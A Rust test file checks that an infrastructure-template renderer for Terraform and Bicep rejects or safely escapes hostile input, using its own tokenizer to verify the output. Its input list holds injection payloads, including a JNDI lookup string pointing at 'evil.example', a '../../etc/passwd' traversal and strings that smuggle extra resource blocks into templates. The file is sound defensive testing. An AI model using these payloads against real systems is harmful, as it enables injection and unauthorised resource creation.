//! Hostile values: every string parameter of every blueprint, and the free-text fields of the
//! experiment context, get quotes, interpolations, template directives, newlines, comment
//! markers, path tricks, look-alike characters and a 10 kB string. Each value is either
//! rejected with a diagnostic naming the parameter, or rendered as an inert literal. The latter
//! is proved with a tokenizer written here, independent of the one in src/render: the output
//! must still balance its quotes and brackets, and some string literal without interpolation
//! must decode to text containing the value exactly.

use std::collections::BTreeMap;

use adoptbot::model::diagnostic::Diagnostic;
use adoptbot::render::manifest::StringParameter;
use adoptbot::render::{
    Blueprint, Catalogue, ExperimentContext, Flavour, Parameter, render, validate_blueprint,
};
use proptest::prelude::*;
use serde_json::Value;

fn hostile_values() -> Vec<String> {
    let mut v: Vec<String> = [
        "'",
        "\"",
        "${jndi:ldap://evil.example/x}",
        "${var.x}",
        "$${var.x}",
        "%{ if true }x%{ endif }",
        "%%{x}",
        "a\nb",
        "line1\r\nline2\ttab",
        "..",
        "../../etc/passwd",
        "*/",
        "/*",
        "*/ resource \"x\" \"y\" {} /*",
        "'} resource evil 'Microsoft.Storage/storageAccounts@2023-01-01' = { name: 'x' } //",
        "\" }\nresource \"azurerm_public_ip\" \"evil\" {\n  x = \"",
        "ｗｅｓｔｅｕｒｏｐｅ",
        "w\u{0435}steurope",
        "\\",
        "\\'",
        "\\\"",
        "'''",
        "}",
        "{{ experiment.id }}",
        "{% raw %}",
        "#",
        "// comment",
        "\u{202E}evil",
        "nul\u{0}byte",
        "bell\u{7}",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    v.push("x".repeat(10 * 1024));
    v
}

fn ctx() -> ExperimentContext {
    ExperimentContext {
        id: "hostile-test".into(),
        team: "ml".into(),
        owner: "alice".into(),
        cost_tag: "cc-hostile".into(),
        expiry: chrono::NaiveDate::from_ymd_opt(2030, 1, 1).unwrap(),
        starts_on: chrono::NaiveDate::from_ymd_opt(2026, 11, 2).unwrap(),
        ..adoptbot::render::example_context()
    }
}

/// A string literal found by the tokenizer: its decoded text, or `None` when it interpolates.
type Literal = Option<String>;

/// An independent tokenizer of Bicep or HCL string literals: returns every literal (decoded)
/// or an error when quotes, escapes, interpolations or brackets do not balance.
fn literals(text: &str, bicep: bool) -> Result<Vec<Literal>, String> {
    let chars: Vec<char> = text.chars().collect();
    let mut i = 0;
    let mut out = Vec::new();
    let mut stack: Vec<char> = Vec::new();
    code(&chars, &mut i, bicep, &mut stack, &mut out, false)?;
    if !stack.is_empty() {
        return Err(format!("unclosed {stack:?}"));
    }
    Ok(out)
}

/// Code until the end (or, inside an interpolation, until the `}` that closes it).
fn code(
    c: &[char],
    i: &mut usize,
    bicep: bool,
    stack: &mut Vec<char>,
    out: &mut Vec<Literal>,
    interp: bool,
) -> Result<(), String> {
    let base = stack.len();
    let quote = if bicep { '\'' } else { '"' };
    while *i < c.len() {
        let ch = c[*i];
        let next = c.get(*i + 1).copied();
        if ch == '/' && next == Some('/') || (!bicep && ch == '#') {
            while *i < c.len() && c[*i] != '\n' {
                *i += 1;
            }
            continue;
        }
        if ch == '/' && next == Some('*') {
            *i += 2;
            while *i + 1 < c.len() && !(c[*i] == '*' && c[*i + 1] == '/') {
                *i += 1;
            }
            if *i + 1 >= c.len() {
                return Err("unclosed comment".into());
            }
            *i += 2;
            continue;
        }
        if bicep && c[*i..].starts_with(&['\'', '\'', '\'']) {
            *i += 3;
            let start = *i;
            while *i + 2 < c.len() && !c[*i..].starts_with(&['\'', '\'', '\'']) {
                *i += 1;
            }
            if *i + 2 >= c.len() {
                return Err("unclosed '''".into());
            }
            out.push(Some(c[start..*i].iter().collect()));
            *i += 3;
            continue;
        }
        if ch == quote {
            *i += 1;
            let lit = string(c, i, bicep, out)?;
            out.push(lit);
            continue;
        }
        match ch {
            '{' | '[' | '(' => stack.push(ch),
            '}' | ']' | ')' => {
                if interp && ch == '}' && stack.len() == base {
                    *i += 1;
                    return Ok(());
                }
                let open = stack
                    .pop()
                    .ok_or_else(|| format!("unbalanced {ch} at {}", *i))?;
                if !matches!((open, ch), ('{', '}') | ('[', ']') | ('(', ')')) {
                    return Err(format!("{open} closed by {ch}"));
                }
            }
            _ => {}
        }
        *i += 1;
    }
    if interp {
        Err("unclosed interpolation".into())
    } else {
        Ok(())
    }
}

/// After an opening quote: the literal's decoded text, or `None` if it interpolates.
fn string(
    c: &[char],
    i: &mut usize,
    bicep: bool,
    out: &mut Vec<Literal>,
) -> Result<Literal, String> {
    let quote = if bicep { '\'' } else { '"' };
    let mut text = String::new();
    let mut interpolated = false;
    loop {
        let ch = *c.get(*i).ok_or("unclosed string")?;
        *i += 1;
        let next = c.get(*i).copied();
        match ch {
            '\n' => return Err("newline inside a string literal".into()),
            q if q == quote => return Ok((!interpolated).then_some(text)),
            '\\' => {
                let e = next.ok_or("dangling escape")?;
                *i += 1;
                match (e, bicep) {
                    ('n', _) => text.push('\n'),
                    ('r', _) => text.push('\r'),
                    ('t', _) => text.push('\t'),
                    ('\\', _) => text.push('\\'),
                    ('\'', true) | ('$', true) | ('"', false) => text.push(e),
                    _ => return Err(format!("invalid escape \\{e}")),
                }
            }
            '$' | '%' if !bicep && next == Some(ch) && c.get(*i + 1) == Some(&'{') => {
                *i += 2;
                text.push(ch);
                text.push('{');
            }
            '$' if next == Some('{') => {
                *i += 1;
                interpolated = true;
                code(c, i, bicep, &mut Vec::new(), out, true)?;
            }
            '%' if !bicep && next == Some('{') => {
                *i += 1;
                interpolated = true;
                code(c, i, bicep, &mut Vec::new(), out, true)?;
            }
            _ => text.push(ch),
        }
    }
}

/// Render and either accept a rejection naming `what`, or prove `value` is an inert literal.
/// Returns whether it rendered.
fn render_or_reject(
    bp: &Blueprint,
    ctx: &ExperimentContext,
    params: &BTreeMap<String, Value>,
    what: &str,
    value: &str,
) -> bool {
    let mut rendered_any = false;
    for flavour in Flavour::ALL {
        match render(bp, flavour, ctx, params) {
            Err(diags) => {
                let names: Vec<&Diagnostic> =
                    diags.iter().filter(|d| d.message.contains(what)).collect();
                assert!(
                    !names.is_empty(),
                    "{} {flavour}: rejection of {value:?} does not name {what}: {diags:#?}",
                    bp.manifest.name
                );
                assert!(
                    diags
                        .iter()
                        .all(|d| d.code.as_str().starts_with("parameter-")
                            || d.code == "context-invalid"),
                    "rejected by validation, not by a broken render: {diags:#?}"
                );
            }
            Ok(files) => {
                rendered_any = true;
                let mut found = false;
                for f in files
                    .iter()
                    .filter(|f| f.path.ends_with(flavour.extension()))
                {
                    let lits =
                        literals(&f.content, flavour == Flavour::Bicep).unwrap_or_else(|e| {
                            panic!(
                                "{} {}: {e} with {what}={value:?}\n{}",
                                bp.manifest.name, f.path, f.content
                            )
                        });
                    found |= lits.iter().flatten().any(|l| l.contains(value));
                }
                assert!(
                    found,
                    "{} {flavour}: {value:?} is not an intact literal",
                    bp.manifest.name
                );
            }
        }
    }
    rendered_any
}

#[test]
fn hostile_values_in_every_string_parameter() {
    let cat = Catalogue::builtin().unwrap();
    let mut cases = 0;
    for bp in cat.blueprints() {
        for (name, spec) in &bp.manifest.parameters {
            if !matches!(spec, Parameter::String(_)) {
                continue;
            }
            for value in hostile_values() {
                let mut params = bp.manifest.example_parameters.clone();
                params.insert(name.clone(), Value::String(value.clone()));
                render_or_reject(bp, &ctx(), &params, &format!("`{name}`"), &value);
                cases += 1;
            }
        }
    }
    assert!(cases > 300, "{cases}");
}

#[test]
fn hostile_team_and_owner_render_as_inert_literals() {
    let cat = Catalogue::builtin().unwrap();
    let mut rendered = 0;
    for bp in cat.blueprints() {
        for value in hostile_values() {
            for field in ["team", "owner"] {
                let mut c = ctx();
                if field == "team" {
                    c.team = value.clone();
                } else {
                    c.owner = value.clone();
                }
                if render_or_reject(bp, &c, &bp.manifest.example_parameters, field, &value) {
                    rendered += 1;
                }
            }
        }
    }
    assert!(
        rendered > 200,
        "most hostile values are escaped, not rejected: {rendered}"
    );
}

#[test]
fn hostile_ids_are_rejected() {
    let bp = Catalogue::builtin()
        .unwrap()
        .get("experiment-sandbox")
        .unwrap()
        .clone();
    for bad in [
        "../x",
        "a'b",
        "UPPER",
        "a${b}",
        "x\ny",
        "ｗｅｓｔ",
        "a",
        &"a".repeat(64),
    ] {
        let mut c = ctx();
        c.id = bad.to_string();
        let err = render(&bp, Flavour::Terraform, &c, &bp.manifest.example_parameters).unwrap_err();
        assert!(
            err.iter()
                .any(|d| d.code == "context-invalid" && d.message.contains("id")),
            "{bad:?}: {err:#?}"
        );
    }
}

/// The sandbox with a free-text parameter `note`, used in a string literal of each flavour.
fn with_free_text() -> Blueprint {
    let mut bp = Catalogue::builtin()
        .unwrap()
        .get("experiment-sandbox")
        .unwrap()
        .clone();
    bp.manifest.parameters.insert(
        "note".into(),
        Parameter::String(StringParameter {
            description: "free text".into(),
            default: Some("none".into()),
            allowed: None,
            pattern: None,
            min_length: None,
            max_length: None,
        }),
    );
    for (flavour, templates) in bp.templates.iter_mut() {
        let t = templates
            .iter_mut()
            .find(|t| t.output.starts_with("main."))
            .unwrap();
        t.text.push_str(match flavour {
            Flavour::Bicep => "\n// note: {{ params.note }}\noutput note string = '{{ params.note }}'\n",
            Flavour::Terraform => "\n# note: {{ params.note }}\noutput \"note\" {\n  value = \"{{ params.note }}\"\n}\n",
        });
    }
    bp
}

#[test]
fn free_text_parameters_render_as_inert_literals() {
    let bp = with_free_text();
    assert!(
        validate_blueprint(&bp).is_empty(),
        "{:#?}",
        validate_blueprint(&bp)
    );
    let mut rendered = 0;
    for value in hostile_values() {
        let mut params = bp.manifest.example_parameters.clone();
        params.insert("note".into(), Value::String(value.clone()));
        if render_or_reject(&bp, &ctx(), &params, "`note`", &value) {
            rendered += 1;
        }
    }
    assert!(rendered >= 25, "{rendered}");
}

#[test]
fn values_in_block_comments_are_refused_by_the_probe() {
    // A `*/` in the value would end the comment: escaping covers string literals only.
    let mut bp = with_free_text();
    let t = bp
        .templates
        .get_mut(&Flavour::Terraform)
        .unwrap()
        .iter_mut()
        .find(|t| t.output == "main.tf")
        .unwrap();
    t.text.push_str("/* {{ params.note }} */\n");
    let diags = validate_blueprint(&bp);
    assert!(
        diags
            .iter()
            .any(|d| d.code == "template-unquoted-value" && d.message.contains("`note`")),
        "{diags:#?}"
    );
}

#[test]
fn the_tokenizer_catches_broken_output() {
    assert!(literals("x = \"a\"\n", false).is_ok());
    assert!(literals("x = \"a\n", false).is_err());
    assert!(literals("x = \"${\"}\"}\"", false).is_ok());
    assert!(literals("x = \"${\"}\"", false).is_err());
    assert!(literals("x = \"\\q\"", false).is_err());
    assert!(literals("x = { a = 1", false).is_err());
    assert!(literals("x: 'it\\'s'", true).unwrap() == vec![Some("it's".to_string())]);
    assert!(literals("x: 'it's'", true).is_err());
    assert!(literals("x = \"$${a}\"", false).unwrap() == vec![Some("${a}".to_string())]);
    assert!(literals("x = \"${a}\"", false).unwrap() == vec![None]);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_free_text_is_rejected_or_inert(value in "\\PC{0,40}|[\\x00-\\x7f]{0,40}|.{0,300}") {
        let bp = with_free_text();
        let mut params = bp.manifest.example_parameters.clone();
        params.insert("note".into(), Value::String(value.clone()));
        render_or_reject(&bp, &ctx(), &params, "`note`", &value);
    }

    #[test]
    fn arbitrary_owner_is_rejected_or_inert(value in "[ -~]{1,60}|\\PC{1,20}") {
        let bp = Catalogue::builtin().unwrap().get("azure-openai").unwrap().clone();
        let mut c = ctx();
        c.owner = value.clone();
        if !value.trim().is_empty() {
            render_or_reject(&bp, &c, &bp.manifest.example_parameters, "owner", &value);
        }
    }
}
